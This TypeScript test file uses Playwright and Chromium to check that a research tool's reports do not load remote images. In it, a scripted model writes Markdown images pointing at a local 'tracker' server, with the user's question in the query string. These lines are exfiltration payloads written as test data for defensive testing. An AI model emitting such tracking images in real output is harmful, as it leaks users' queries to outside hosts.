/**
 * A hostile world for report images: a scripted model writes Markdown images (inline and by
 * reference) pointing at a "tracker" server on another loopback port, with the question in the
 * query string. Chromium then opens the report every way a reader can — the HTML file, the
 * server's `/v1/runs/{id}/report/html`, the UI's report view, and the HTML an MCP client reads
 * as a resource — and must make no request outside the report's own origin: the tracker sees
 * nothing. A control page with one image shows the browser does reach the tracker.
 *
 * Without chromium or the built UI the test fails under CI=true and is skipped otherwise.
 */

import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { pathToFileURL } from "node:url";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDossier, type Dossier } from "../../src/runtime/dossier.ts";
import { type RunningServer, startServer } from "../../src/server/listen.ts";
import { signInLink } from "../../src/server/web.ts";
import { sectionAnswer } from "../research/minddr-answers.ts";
import type { ChatBody } from "../research/model-script.ts";
import { type ResearchWorld, startResearchWorld } from "../research/world.ts";
import { browserMissing, launchBrowser, type TestBrowser } from "./browser.ts";

const missing = browserMissing();

function userText(body: ChatBody): string {
  return body.messages
    .filter((m) => m.role !== "system")
    .map((m) => (typeof m.content === "string" ? m.content : m.content.map((p) => p.text ?? "").join("")))
    .join("\n");
}

describe.skipIf(missing !== null)("remote images in reports, in chromium", { timeout: 180_000 }, () => {
  let tracker: Server;
  let trackerUrl: string;
  const trackerHits: string[] = [];
  let world: ResearchWorld;
  let dossier: Dossier;
  let server: RunningServer;
  let browser: TestBrowser;
  let runId: string;
  let htmlPath: string;

  beforeAll(async () => {
    tracker = createServer((req, res) => {
      trackerHits.push(req.url ?? "");
      res.writeHead(200, { "content-type": "image/png" });
      res.end();
    });
    await new Promise<void>((resolve) => tracker.listen(0, "127.0.0.1", resolve));
    trackerUrl = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
    world = await startResearchWorld({
      subtasks: 2,
      override: (role, body) => {
        if (role !== "section") return undefined;
        const base = sectionAnswer(userText(body), {});
        if (base.kind !== "text") return undefined;
        const images = [
          `![growth chart](${trackerUrl}/px.png?q=topic+adoption)`,
          `![](${trackerUrl}/blank.gif)`,
          `![by reference][px]\n\n[px]: ${trackerUrl}/ref.png`,
        ].join("\n\n");
        return { kind: "text", text: `${base.text}\n\n${images}` };
      },
    });
    const result = await world.research({
      query: "How is topic adoption changing?",
      strategy: "minddr",
      formats: ["md", "html", "json"],
    });
    expect(result.record.status).toBe("completed");
    runId = result.runId;
    htmlPath = result.outcome!.paths[1]!;
    dossier = createDossier({ env: { DOSSIER_HOME: world.home }, cwd: world.home });
    server = await startServer({ dossier, port: 0 });
    browser = await launchBrowser();
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await dossier?.close();
    await world?.close();
    await new Promise<void>((resolve) => (tracker ? tracker.close(() => resolve()) : resolve()));
  });

  /** Opens a page, records every request it makes, runs `visit`, and returns the requests. */
  async function requestsOf(visit: (page: Page) => Promise<void>): Promise<string[]> {
    const page = await browser.context.newPage();
    const seen: string[] = [];
    page.on("request", (request) => seen.push(request.url()));
    try {
      await visit(page);
      // Give anything lazy a chance to load.
      await page.waitForLoadState("networkidle");
    } finally {
      await page.close();
    }
    return seen;
  }

  it("the model's images reached the report, as links to the tracker", () => {
    const html = readFileSync(htmlPath, "utf8");
    expect(html).toContain(`href="${trackerUrl}/px.png?q=topic+adoption"`);
    expect(html).toContain(">image: growth chart</a>");
    expect(html).not.toMatch(/<img\b/i);
  });

  it("control: a page with an image does reach the tracker", async () => {
    const before = trackerHits.length;
    await requestsOf(async (page) => {
      await page.setContent(`<p><img src="${trackerUrl}/control.png"></p>`);
    });
    expect(trackerHits.length - before).toBe(1);
  });

  it("the HTML report file requests nothing outside itself", async () => {
    const before = trackerHits.length;
    const fileUrl = pathToFileURL(htmlPath).href;
    const seen = await requestsOf(async (page) => {
      await page.goto(fileUrl);
      await page.getByRole("heading", { name: "References" }).waitFor();
    });
    expect(seen.filter((url) => url !== fileUrl)).toEqual([]);
    expect(trackerHits.length - before).toBe(0);
  });

  it("the server's report and the UI's report view request nothing outside the server's origin", async () => {
    const before = trackerHits.length;
    const origin = new URL(server.url).origin;
    const seen = await requestsOf(async (page) => {
      await page.goto(signInLink(server.app.app, server.url)!);
      await page.getByRole("heading", { name: "New research" }).waitFor();
      await page.goto(`${server.url}/v1/runs/${runId}/report/html`);
      await page.getByRole("heading", { name: "References" }).waitFor();
      await page.goto(`${server.url}/runs/${runId}`);
      await page.getByTestId("report").getByRole("heading", { name: "References" }).waitFor();
    });
    expect(seen.filter((url) => new URL(url).origin !== origin)).toEqual([]);
    expect(trackerHits.length - before).toBe(0);
  });

  it("the HTML an MCP client reads as a resource requests nothing when shown", async () => {
    // Loaded here, after the server's modules: the MCP modules share their schemas.
    const [{ Client }, { InMemoryTransport }, { reportUri }, { createMcpServer }, { createRunManager }] =
      await Promise.all([
        import("@modelcontextprotocol/sdk/client/index.js"),
        import("@modelcontextprotocol/sdk/inMemory.js"),
        import("../../src/mcp/resources.ts"),
        import("../../src/mcp/server.ts"),
        import("../../src/server/run-manager.ts"),
      ]);
    const mcp = createMcpServer({ dossier, runs: createRunManager({ dossier, maxRuns: 1 }) });
    const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
    await mcp.connect(serverSide);
    const client = new Client({ name: "report-images", version: "1.0.0" });
    await client.connect(clientSide);
    const text = async (format: string) =>
      ((await client.readResource({ uri: reportUri(runId, format) })).contents[0] as { text: string }).text;
    let html: string;
    let md: string;
    try {
      html = await text("html");
      md = await text("md");
    } finally {
      await client.close();
    }
    const before = trackerHits.length;
    const seen = await requestsOf(async (page) => {
      await page.setContent(html);
      await page.getByRole("heading", { name: "References" }).waitFor();
    });
    expect(seen.filter((url) => !url.startsWith("about:"))).toEqual([]);
    expect(trackerHits.length - before).toBe(0);
    // The Markdown resource (which an MCP client may render) links the image instead of showing it.
    expect(md).toContain(`[image: growth chart](${trackerUrl}/px.png?q=topic+adoption)`);
    expect(md).not.toContain("![");
  });
});
